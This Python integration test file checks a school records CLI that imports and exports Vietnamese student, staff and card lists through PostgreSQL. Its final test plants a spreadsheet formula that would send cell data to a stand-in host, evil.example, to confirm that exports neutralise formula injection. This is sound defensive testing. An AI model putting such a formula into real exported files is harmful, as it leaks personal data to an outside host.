"""`smartschool records import/export/purge` against the real PostgreSQL, with the sample
export of one simulated school (tests/fixtures/records, written by `records sample`)."""

from __future__ import annotations

import csv
import shutil
import unicodedata
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import psycopg
import pytest
from typer.testing import CliRunner

from core.settings import get_settings
from hub.devices.registry import upsert_school
from hub.records.columns import STUDENT_COLUMNS
from hub.records.importer import import_records
from smartschool.cli import app

pytestmark = pytest.mark.integration

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "records"
SCHOOL = "th-thcs-da-phuc"
STUDENTS_XLSX = FIXTURES / f"{SCHOOL}-students.xlsx"
STUDENTS_CSV = FIXTURES / f"{SCHOOL}-students.csv"
ERRORS_CSV = FIXTURES / f"{SCHOOL}-students-errors.csv"
PUPILS = 198
ERROR_LINES = [
    "{f}:3:Ngày sinh: '31/02/2019' is not a date of the calendar",
    "{f}:6:Số ĐDCN: '031019786519': century-gender-mismatch",
    "{f}:9:Giới tính: 'Trai' is not Nam or Nữ",
    "{f}:12:Họ và tên: missing",
    "{f}:15:Mã định danh Bộ GD&ĐT: '0312469216' repeats row 14",
    "{f}:18:Mã lớp: class 'Khối 1 - lớp 1' not understood: expected a grade and a letter "
    "(6A1, 10A2) or a kindergarten group (Lớp Mầm 1, Lớp Chồi 2, Lớp Lá 3)",
]


@pytest.fixture
def db(pg_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    monkeypatch.setenv("SMARTSCHOOL_DATABASE_URL", pg_url)
    get_settings.cache_clear()
    with psycopg.connect(pg_url, autocommit=True) as conn:
        upsert_school(conn, code=SCHOOL, name="Trường TH&THCS Đa Phúc", level="th_thcs",
                      ward="Đa Phúc")
    yield pg_url
    get_settings.cache_clear()


def run(*args: str | Path):
    return CliRunner().invoke(app, ["records", *map(str, args)])


def count(url: str, query: str) -> int:
    with psycopg.connect(url) as conn:
        row = conn.execute(query).fetchone()
        assert row is not None
        return int(row[0])


def test_import_xlsx_then_the_same_list_as_csv_changes_nothing(db: str) -> None:
    first = run("import", STUDENTS_XLSX, "--school", SCHOOL)
    assert first.exit_code == 0, first.output
    assert f"{PUPILS} rows, {PUPILS} new, 0 updated, 0 unchanged, 9 classes created, " \
           "0 errors; written" in first.stdout
    again = run("import", STUDENTS_CSV, "--school", SCHOOL)
    assert again.exit_code == 0, again.output
    assert f"0 new, 0 updated, {PUPILS} unchanged, 0 classes created" in again.stdout
    assert count(db, "select count(*) from students") == PUPILS
    assert count(db, "select count(*) from guardians") == 2 * PUPILS
    assert count(db, "select count(*) from classes") == 9
    # The gate galleries' person id is random, never the MOET id (issue 12).
    assert count(db, f"select count(*) from students where code ~ '^{SCHOOL}-p[0-9a-f]{{16}}$'"
                     " and strpos(code, moet_id) = 0") == PUPILS


def test_every_bad_row_is_reported_and_nothing_is_written(db: str) -> None:
    result = run("import", ERRORS_CSV, "--school", SCHOOL)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [line.format(f=ERRORS_CSV) for line in ERROR_LINES]
    assert "nothing written" in result.stdout
    assert count(db, "select count(*) from students") == 0
    assert count(db, "select count(*) from classes") == 0


def test_skip_invalid_writes_the_valid_rows_and_still_reports_the_rest(db: str) -> None:
    result = run("import", ERRORS_CSV, "--school", SCHOOL, "--skip-invalid")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [line.format(f=ERRORS_CSV) for line in ERROR_LINES]
    assert count(db, "select count(*) from students") == PUPILS - len(ERROR_LINES)
    # The valid file afterwards brings in the six it lacked and leaves the rest alone.
    fixed = run("import", STUDENTS_CSV, "--school", SCHOOL)
    assert f"{len(ERROR_LINES)} new, 0 updated, {PUPILS - len(ERROR_LINES)} unchanged" \
        in fixed.stdout


def test_dry_run_counts_and_rolls_back(db: str) -> None:
    result = run("import", STUDENTS_CSV, "--school", SCHOOL, "--dry-run")
    assert result.exit_code == 0, result.output
    assert f"{PUPILS} new" in result.stdout and "dry run, rolled back" in result.stdout
    assert count(db, "select count(*) from students") == 0


def test_a_missing_column_is_a_file_level_error(db: str, tmp_path: Path) -> None:
    rows = list(csv.reader(STUDENTS_CSV.open(encoding="utf-8-sig", newline="")))
    drop = rows[0].index("Ngày sinh")
    path = tmp_path / "no-birth-date.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([c for i, c in enumerate(row) if i != drop] for row in rows)
    result = run("import", path, "--school", SCHOOL)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [f"{path}:1:Ngày sinh: missing required column"]


def test_an_unknown_school_is_a_usage_error(db: str) -> None:
    result = run("import", STUDENTS_CSV, "--school", "nowhere")
    assert result.exit_code == 2
    assert "school 'nowhere' does not exist" in result.stderr


def test_names_arrive_nfd_and_are_stored_nfc(db: str) -> None:
    headers = [unicodedata.normalize("NFD", c.header) for c in STUDENT_COLUMNS]
    name = unicodedata.normalize("NFD", "Nguyễn Thị Ánh Tuyết")
    row = ["1", "6A1", "0311234567", name, "02/01/2014", unicodedata.normalize("NFD", "Nữ"),
           "", "", "", "", "", unicodedata.normalize("NFD", "Nguyễn Văn Đức"), "1985", "", "",
           "031314000123"]
    data = ("\ufeff" + ",".join(headers) + "\n" + ",".join(row) + "\n").encode()
    with psycopg.connect(db, autocommit=True) as conn:
        report = import_records(conn, data, file="nfd.csv", school=SCHOOL, kind="students",
                                today=date(2026, 11, 29), changed_by="test")
        assert report.errors == [] and report.inserted == 1
        stored = conn.execute("select full_name from students").fetchone()
        father = conn.execute("select full_name, relation from guardians").fetchone()
    assert stored == (unicodedata.normalize("NFC", name),)
    assert stored[0] == "Nguyễn Thị Ánh Tuyết" and len(stored[0]) == len("Nguyễn Thị Ánh Tuyết")
    assert father == ("Nguyễn Văn Đức", "father")


def test_a_corrected_row_updates_in_place_and_keeps_the_code(db: str, tmp_path: Path) -> None:
    assert run("import", STUDENTS_CSV, "--school", SCHOOL).exit_code == 0
    rows = list(csv.reader(STUDENTS_CSV.open(encoding="utf-8-sig", newline="")))
    moet = rows[1][rows[0].index("Mã định danh Bộ GD&ĐT")]
    with psycopg.connect(db) as conn:
        before = conn.execute("select code from students where moet_id = %s",
                              (moet,)).fetchone()
    name_at, father_at = rows[0].index("Họ và tên"), rows[0].index("Họ tên cha")
    rows[1][name_at] = "Phan Minh Giang Hương"
    rows[1][father_at] = "Phan Đức Thịnh Long"
    path = tmp_path / "corrected.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    result = run("import", path, "--school", SCHOOL)
    assert f"0 new, 1 updated, {PUPILS - 1} unchanged" in result.stdout, result.output
    with psycopg.connect(db) as conn:
        row = conn.execute(
            "select s.code, s.full_name, g.full_name from students s join guardians g"
            " on g.student_id = s.id and g.relation = 'father' where s.moet_id = %s",
            (moet,),
        ).fetchone()
    assert before is not None
    assert row == (before[0], "Phan Minh Giang Hương", "Phan Đức Thịnh Long")
    assert count(db, "select count(*) from guardians") == 2 * PUPILS


def test_export_then_reimport_is_a_no_op(db: str, tmp_path: Path) -> None:
    assert run("import", STUDENTS_XLSX, "--school", SCHOOL).exit_code == 0
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"export{suffix}"
        exported = run("export", out, "--school", SCHOOL, "--kind", "students")
        assert exported.exit_code == 0, exported.output
        again = run("import", out, "--school", SCHOOL)
        assert again.exit_code == 0, again.output
        assert f"0 new, 0 updated, {PUPILS} unchanged" in again.stdout
    # Same rows as the export we imported, except the columns deliberately not stored.
    unstored = [i for i, c in enumerate(STUDENT_COLUMNS) if not c.stored and c.key != "seq"]

    def stored(path: Path) -> list[list[str]]:
        rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
        return [[v for i, v in enumerate(r) if i not in unstored] for r in rows]

    assert stored(tmp_path / "export.csv") == stored(STUDENTS_CSV)


def test_staff_and_cards_with_history(db: str, tmp_path: Path) -> None:
    assert run("import", STUDENTS_CSV, "--school", SCHOOL).exit_code == 0
    staff = run("import", FIXTURES / f"{SCHOOL}-staff.xlsx", "--school", SCHOOL,
                "--kind", "staff")
    assert staff.exit_code == 0, staff.output
    assert "20 new" in staff.stdout
    assert count(db, f"select count(*) from staff where code like '{SCHOOL}-gv-CB%'") == 20
    assert count(db, "select count(*) from staff where phone like '+849%'") == 20

    cards_csv = FIXTURES / f"{SCHOOL}-cards.csv"
    cards = run("import", cards_csv, "--school", SCHOOL, "--kind", "cards")
    assert cards.exit_code == 0, cards.output
    total = count(db, "select count(*) from cards")
    assert total == 219
    assert count(db, "select count(*) from cards where staff_id is not null") == 20
    assert count(db, "select count(*) from card_history") == total
    again = run("import", FIXTURES / f"{SCHOOL}-cards.xlsx", "--school", SCHOOL,
                "--kind", "cards")
    assert f"0 new, 0 updated, {total} unchanged" in again.stdout
    assert count(db, "select count(*) from card_history") == total

    # A card reported lost: one status change, one more line of history.
    out = tmp_path / "cards.csv"
    assert run("export", out, "--school", SCHOOL, "--kind", "cards").exit_code == 0
    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
    assert rows[1][4] == "Hoạt động"
    rows[1][4] = "Mất"
    shutil.copy(out, tmp_path / "before.csv")
    with out.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    changed = run("import", out, "--school", SCHOOL, "--kind", "cards")
    assert f"0 new, 1 updated, {total - 1} unchanged" in changed.stdout, changed.output
    assert count(db, "select count(*) from card_history") == total + 1
    assert count(db, f"select count(*) from cards where uid = '{rows[1][1]}'"
                     " and status = 'lost'") == 1
    assert count(db, f"select count(*) from card_history where uid = '{rows[1][1]}'") == 2


def test_cards_of_unknown_holders_are_reported(db: str, tmp_path: Path) -> None:
    path = tmp_path / "cards.csv"
    path.write_text("UID,Mã học sinh,Mã cán bộ,Trạng thái\n"
                    "04A1B2C3,0319999999,,Hoạt động\n"
                    "04A1B2C4,,,Khoá\n"
                    "zz,,CB001,Ngừng\n", encoding="utf-8")
    result = run("import", path, "--school", SCHOOL, "--kind", "cards")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"{path}:2:Mã học sinh: no pupil '0319999999' at school {SCHOOL}",
        f"{path}:3:Mã học sinh: give exactly one of Mã học sinh and Mã cán bộ",
        f"{path}:4:UID: 'zz' is not a card UID (2-32 hex digits)",
        f"{path}:4:Trạng thái: 'Ngừng' is not Hoạt động, Khoá or Mất",
    ]
    assert count(db, "select count(*) from cards") == 0


def test_purge_deletes_raw_events_past_retention_and_keeps_the_rollup(db: str) -> None:
    assert run("import", STUDENTS_CSV, "--school", SCHOOL).exit_code == 0
    with psycopg.connect(db, autocommit=True) as conn:
        conn.execute("insert into devices (id, school_id, role) values ('g1', %s, 'gate')",
                     (SCHOOL,))
        student = conn.execute("select id from students limit 1").fetchone()
        assert student is not None
        for seq, age_days in ((1, 500), (2, 40), (3, 1)):
            conn.execute(
                "insert into gate_events (device_id, seq, ts, received_at, school_id,"
                " direction, method, decision, student_id, resolved) values"
                " ('g1', %s, now() - make_interval(days => %s), now() - make_interval(days => %s),"
                " %s, 'in', 'card', 'granted', %s, true)",
                (seq, age_days, age_days, SCHOOL, student[0]),
            )
            conn.execute(
                "insert into attendance_daily (student_id, day, school_id, first_in)"
                " values (%s, current_date - %s, %s, now() - make_interval(days => %s))",
                (student[0], age_days, SCHOOL, age_days),
            )
    # the hub's hourly maintenance applies the same retention without anyone asking
    from hub.equipment.evaluator import Evaluator

    hub_side = Evaluator(db, event_retention_days=100)
    with psycopg.connect(db, autocommit=True) as conn:
        hub_side._maintain(conn)
    assert count(db, "select count(*) from gate_events") == 2
    default = run("purge")
    assert default.exit_code == 0, default.output
    assert default.stdout.startswith("deleted 0 gate events")  # 400 days: gone already
    assert run("purge", "--older-than-days", "30").stdout.startswith("deleted 1 gate events")
    assert count(db, "select count(*) from gate_events") == 1
    assert count(db, "select count(*) from attendance_daily") == 3


def test_a_mapping_file_renames_and_ignores_columns(db: str, tmp_path: Path) -> None:
    rows = list(csv.reader(STUDENTS_CSV.open(encoding="utf-8-sig", newline="")))
    rows[0][rows[0].index("Số ĐDCN")] = "So DDCN"
    rows = [[*row, "ghi chú" if n else "Ghi chú"] for n, row in enumerate(rows)]
    path = tmp_path / "renamed.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    refused = run("import", path, "--school", SCHOOL)
    assert refused.exit_code == 1
    assert f"{path}:1:So DDCN: unknown column" in refused.stderr
    mapping = tmp_path / "map.yaml"
    mapping.write_text("So DDCN: personal_id\nGhi chú: null\n", encoding="utf-8")
    result = run("import", path, "--school", SCHOOL, "--mapping", mapping)
    assert result.exit_code == 0, result.output
    assert count(db, "select count(*) from students where personal_id is not null") == PUPILS


def test_an_identifier_of_another_school_is_refused(db: str, tmp_path: Path) -> None:
    assert run("import", STUDENTS_CSV, "--school", SCHOOL).exit_code == 0
    with psycopg.connect(db, autocommit=True) as conn:
        upsert_school(conn, code="th-other", name="Trường TH&THCS Khác", level="th_thcs",
                      ward="Hòa Nghĩa")
    result = run("import", STUDENTS_CSV, "--school", "th-other")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"{STUDENTS_CSV}:2:Mã định danh Bộ GD&ĐT: already registered elsewhere; "
        "ask the district office")
    dry = run("import", STUDENTS_CSV, "--school", "th-other", "--dry-run")
    assert "already registered elsewhere" in dry.stderr
    for line in (result.output + dry.output).splitlines():
        # The file is named after the school that exported it; the messages name nothing.
        assert SCHOOL not in line.replace(str(STUDENTS_CSV), "FILE"), line
    assert count(db, "select count(*) from classes where school_id = 'th-other'") == 0


def test_the_school_may_be_left_out_when_there_is_only_one(db: str) -> None:
    """`smartschool records import FILE` as issue 5 writes it: the one school is used."""
    result = run("import", STUDENTS_CSV)
    assert result.exit_code == 0, result.output
    assert f"school: {SCHOOL} (the only one in the database)" in result.stderr
    assert count(db, "select count(*) from students") == PUPILS
    with psycopg.connect(db, autocommit=True) as conn:
        upsert_school(conn, code="thcs-khac", name="Trường THCS Khác", level="thcs",
                      ward="Hải Thành")
    two = run("import", STUDENTS_CSV)
    assert two.exit_code == 2
    assert "the database holds 2 schools: say which with --school" in two.stderr


def test_moet_ids_with_a_2_digit_province_import_with_warnings(db: str, tmp_path: Path) -> None:
    """Issue 12: a real export whose 10-digit ids begin with a 2-digit province number
    imports whole; the unexpected prefix is a warning per row, a 9-digit id an error."""
    rows = list(csv.reader(STUDENTS_CSV.open(encoding="utf-8-sig", newline="")))
    moet_at = rows[0].index("Mã định danh Bộ GD&ĐT")
    head, pupils = rows[0], rows[1:11]
    for n, row in enumerate(pupils):
        row[moet_at] = f"31{n:08d}"  # Hải Phòng as 31, not 031
    broken = list(rows[11])
    broken[moet_at] = "311234567"
    path = tmp_path / "two-digit-province.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows([head, *pupils, broken])
    result = run("import", path, "--school", SCHOOL, "--skip-invalid")
    assert result.exit_code == 1, result.output  # the 9-digit row is an error
    assert "11 rows, 10 new, 0 updated, 0 unchanged" in result.stdout, result.output
    assert "1 errors, 10 warnings; written" in result.stdout
    lines = result.stderr.splitlines()
    assert f"{path}:12:Mã định danh Bộ GD&ĐT: '311234567': not-10-digits" in lines
    assert (f"{path}:2:Mã định danh Bộ GD&ĐT: warning: '3100000000': unknown-province "
            "(imported; MOET publishes no id structure beyond its 10 digits)") in lines
    assert sum(": warning: " in line for line in lines) == 10
    assert count(db, "select count(*) from students where moet_id like '31%'") == 10
    # The same pupils as an XLSX, without the broken row: nothing is refused at all.
    from hub.records.tables import write_rows

    sheet = tmp_path / "two-digit-province.xlsx"
    write_rows(sheet, head, pupils)
    clean = run("import", sheet, "--school", SCHOOL)
    assert clean.exit_code == 0, clean.output
    assert "0 new, 0 updated, 10 unchanged, 0 classes created, 0 errors, 10 warnings; " \
           "written" in clean.stdout


def test_exports_are_inert_and_still_reimport(db: str, tmp_path: Path) -> None:
    """Issue 12: a staff position beginning with = and phones beginning with + stay text
    in both formats (XLSX string cells, CSV cells behind a quote), and the files still
    re-import unchanged."""
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    staff = FIXTURES / f"{SCHOOL}-staff.xlsx"
    assert run("import", staff, "--school", SCHOOL, "--kind", "staff").exit_code == 0
    with psycopg.connect(db, autocommit=True) as conn:
        conn.execute("update staff set position = %s where code = %s",
                     (formula, f"{SCHOOL}-gv-CB001"))
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"staff{suffix}"
        assert run("export", out, "--school", SCHOOL, "--kind", "staff").exit_code == 0
        if suffix == ".csv":
            rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
            position, phone = rows[0].index("Chức vụ"), rows[0].index("Điện thoại")
            assert rows[1][position] == "'" + formula
            assert all(r[phone].startswith("'+84") for r in rows[1:])
        else:
            sheet = load_workbook(out).active
            assert sheet is not None
            cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
            assert len(cells) == 1 and cells[0].data_type == "s"
            assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
        again = run("import", out, "--school", SCHOOL, "--kind", "staff")
        assert again.exit_code == 0, again.output
        assert "0 new, 0 updated, 20 unchanged" in again.stdout, again.output
    assert count(db, "select count(*) from staff where position like '=HYPERLINK%'") == 1
